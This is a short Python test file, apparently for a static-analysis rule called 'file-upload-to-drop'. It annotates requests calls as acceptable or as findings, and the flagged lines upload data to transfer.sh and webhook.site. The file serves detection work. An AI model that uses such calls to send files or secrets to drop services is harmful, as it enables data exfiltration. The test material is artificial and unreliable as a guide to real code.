import requests

# ok: file-upload-to-drop
requests.get("https://transfer.sh/abc/data.tgz")
# ok: file-upload-to-drop
requests.post("https://reports.example/upload", files={"file": b"x"})
# ruleid: file-upload-to-drop
requests.post("https://webhook.site/0f1e", json={"ok": True})
# ruleid: file-upload-to-drop
requests.put("https://transfer.sh/data.tgz", data=b"x")
